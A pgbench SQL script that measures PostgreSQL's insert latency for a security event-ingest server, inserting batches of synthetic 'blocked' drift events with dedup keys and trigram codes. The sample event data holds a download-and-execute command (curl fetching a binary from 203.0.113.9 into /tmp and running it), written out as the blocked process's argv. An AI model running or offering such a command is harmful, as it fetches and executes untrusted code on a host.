-- pgbench script for bench/server.sh: the rows of one paced batch (100 events shaped as paced.py's,
-- with trigram codes) inserted by PostgreSQL itself, as the server's ingest does (ON CONFLICT on the
-- dedup key), but with no server, HTTP or JSON: PostgreSQL's own latency at that pace on this host.
\set run random(1, 1000000000)
INSERT INTO events (group_id, dedup_key, time_ms, received_ms, action, reason, mode, function_name, account_id, region, request_id, instance_id, seq, executable, search, body, search_codes)
SELECT 'grp_floor', 'pgb:' || :run || ':' || :client_id || ':' || g, 1765148000000 + g, 1765148000000, 'blocked', 'drift', 'enforce', 'api', '123456789012', 'eu-west-1',
  'r-pgb-' || :run || '-' || g, 'pgb-' || :client_id, g, '/tmp/x' || (g % 97),
  '/tmp/x' || (g % 97) || E'\ndrift\napi\nr-pgb-' || :run || '-' || g || E'\n/bin/sh\n-c\ncurl -o /tmp/m http://203.0.113.9/m' || (:run + g) || ' && /tmp/m',
  '{"time": "2026-12-07T23:05:34.000Z", "mode": "enforce", "action": "blocked", "reason": "drift", "reasons": ["drift"], "executable": "/tmp/x87", "argv": ["/bin/sh", "-c", "curl -o /tmp/m http://203.0.113.9/m' || (:run + g) || ' && /tmp/m"], "function_name": "api", "region": "eu-west-1", "account_id": "123456789012", "request_id": "r-paced-15639-6-12600", "instance_id": "paced-15639-6", "seq": 12600}',
  -- Eight codes a row, each from its own range of 1 000 values (about what is left of an event's
  -- digit trigrams once the stop codes are out): none in 5% of the rows, so none becomes a stop code.
  ARRAY[((:run::bigint + g) % 1000)::int, 1000 + ((:run::bigint + g) * 7 % 1000)::int, 2000 + ((:run::bigint + g) * 13 % 1000)::int,
        3000 + ((:run::bigint + g) * 17 % 1000)::int, 4000 + ((:run::bigint + g) * 19 % 1000)::int, 5000 + ((:run::bigint + g) * 23 % 1000)::int,
        6000 + ((:run::bigint + g) * 29 % 1000)::int, 7000 + ((:run::bigint + g) * 31 % 1000)::int]
FROM generate_series(1, 100) AS g ON CONFLICT (dedup_key) DO NOTHING;
